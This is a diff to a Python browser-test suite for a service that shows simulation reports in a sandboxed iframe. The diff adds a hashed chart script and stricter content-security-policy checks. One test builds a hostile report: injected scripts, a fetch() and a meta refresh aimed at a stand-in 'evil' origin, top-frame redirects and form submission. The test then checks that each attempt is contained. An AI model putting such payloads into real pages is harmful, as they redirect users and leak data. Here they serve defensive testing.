@@ -3,7 +3,7 @@ report.html in a sandboxed frame; programs still get the zip. Headless Chromium 
 
 The archive is a real one: the engine's export of an OMNeT++ run from ../shared/omnetpp-results,
 with the engine's own report.html (one self-contained file at the top level: inline CSS, data:
-images, no script, no network).
+images, one script, the same in every report, that makes its charts explorable; no network).
 """
 from __future__ import annotations
 
@@ -111,9 +111,20 @@ def test_browser_sees_the_run_its_report_and_a_download_button(share, browser, t
     header = page.locator("header").inner_text()
     assert "Aloha-PureAloha1-results.zip" in header and f"{rec['size']:,} bytes" in header
     assert "in 7 days" in header and rec["expires_at"][:10] in header
-    assert page.locator("iframe").get_attribute("sandbox") == ""
+    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
     charts = frame.locator("img")  # the report's charts, data: PNGs, decoded inside the sandbox
     assert charts.count() >= 1 and charts.first.evaluate("i => i.complete && i.naturalWidth > 0")
+    # its one script runs inside the sandbox: every chart is live (hover shows the values)
+    live = frame.locator("figure.live")
+    live.first.wait_for()
+    assert live.count() == frame.locator("figure[data-series]").count() >= 1
+    over = live.first.locator(".u-over")
+    over.scroll_into_view_if_needed()
+    value = live.first.locator(".u-legend .u-series").nth(1).locator(".u-value")
+    box = over.bounding_box()
+    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
+    page.mouse.move(box["x"] + box["width"] / 2 + 3, box["y"] + box["height"] / 2)
+    float(value.inner_text().split()[0].replace(",", ""))  # a number under the cursor
     page.screenshot(path=str(tmp_path / "share-page.png"), full_page=True)
     with page.expect_download() as dl:
         page.get_by_role("link", name="Download").click()
@@ -171,7 +182,11 @@ def test_report_is_served_sandboxed_with_a_strict_policy(share):
     r = requests.get(recs["run"]["link"] + "/report.html")
     assert r.status_code == 200 and r.text == report_html  # streamed out of the zip, byte for byte
     csp = r.headers["content-security-policy"]
-    assert csp.startswith("sandbox;") and "default-src 'none'" in csp and "script-src" not in csp
+    from omnetpp_results.report import SCRIPT_SHA256
+    assert csp.startswith("sandbox allow-scripts;") and "default-src 'none'" in csp
+    # the report's own script, by its hash, and nothing else: no inline handler, no other script
+    assert f"script-src 'sha256-{SCRIPT_SHA256}';" in csp and csp.count("sha256-") == 1
+    assert "unsafe-inline'" not in csp.split("script-src", 1)[1].split(";")[0]
     assert "frame-ancestors 'self'" in csp and r.headers["x-content-type-options"] == "nosniff"
     page = requests.get(recs["run"]["link"], headers={"Accept": "text/html"})
     assert "frame-src 'self'" in page.headers["content-security-policy"]
@@ -206,9 +221,14 @@ class Evil:
 
 
 def hostile_report(evil: str) -> str:
+    """A report that tries everything, holding the report's real chart script as well: that one
+    runs (its chart is drawn), no other, and nothing reaches the other origin or the page."""
+    from omnetpp_results.report import SCRIPT
+    series = html.escape('{"kind":"vector","xlabel":"","ylabel":"v","lines":[{"label":"m","style":"default",'
+                         '"x":[0,1,2],"y":[1,3,2]}]}')
     return f"""<!doctype html><html><head><title>hostile &lt;b&gt;title&lt;/b&gt;</title>
 <base href="{evil}/base/"><link rel="stylesheet" href="{evil}/css">
-<meta http-equiv="refresh" content="0;url={evil}/refresh"></head><body>
+</head><body>
 <h1 id="h">report</h1>
 <script>document.getElementById('h').textContent = 'script ran'; document.title = 'script ran';</script>
 <script>top.location = '{evil}/top';</script>
@@ -219,7 +239,9 @@ def hostile_report(evil: str) -> str:
 <script>document.getElementById('f').submit();</script>
 <a id="top" href="{evil}/click-top" target="_top">go top</a>
 <a id="here" href="{evil}/click-here">go here</a>
-<a id="popup" href="{evil}/popup" target="_blank">popup</a></body></html>"""
+<a id="popup" href="{evil}/popup" target="_blank">popup</a>
+<figure id="fig" data-name="x" data-series="{series}"></figure>
+<script>{SCRIPT}</script><script>fetch('{evil}/after-ours');</script></body></html>"""
 
 
 def test_a_hostile_report_is_contained(share, browser, tmp_path):
@@ -236,7 +258,8 @@ def test_a_hostile_report_is_contained(share, browser, tmp_path):
         page.goto(rec["link"])
         page.wait_for_load_state("networkidle")
         frame = page.frame_locator("iframe")
-        assert frame.locator("#h").inner_text() == "report"  # no script ran in the frame
+        assert frame.locator("#h").inner_text() == "report"  # no hostile script ran in the frame
+        frame.locator("#fig.live canvas").first.wait_for()  # the report's chart script did
         assert page.locator("h1").inner_text() == "hostile <b>title</b>"  # the title is text, not markup
         for link in ("#popup", "#top", "#here"):  # even a click leads nowhere outside (the last one
             # replaces the frame with the browser's "blocked" page: frame-src 'self' in our CSP)
@@ -249,6 +272,15 @@ def test_a_hostile_report_is_contained(share, browser, tmp_path):
         alone.goto(rec["link"] + "/report.html")
         alone.wait_for_load_state("networkidle")
         assert alone.locator("#h").inner_text() == "report" and alone.url == rec["link"] + "/report.html"
+        alone.close()
+        # a meta refresh (scripts are allowed in the sandbox, so Chromium obeys it): the frame may
+        # only go to this server (frame-src 'self'), the other origin is never asked
+        refresh = f'<html><head><meta http-equiv="refresh" content="0;url={evil.origin}/refresh"></head></html>'
+        rec = LocalCloudClient(srv.url, KEY).upload(
+            with_member(src, tmp_path / "refresh.zip", "report.html", refresh), "refresh.zip")
+        page.goto(rec["link"])
+        page.wait_for_load_state("networkidle")
+        assert page.url == rec["link"] and len(context.pages) == 1
         context.close()
         assert evil.hits == []
     finally:
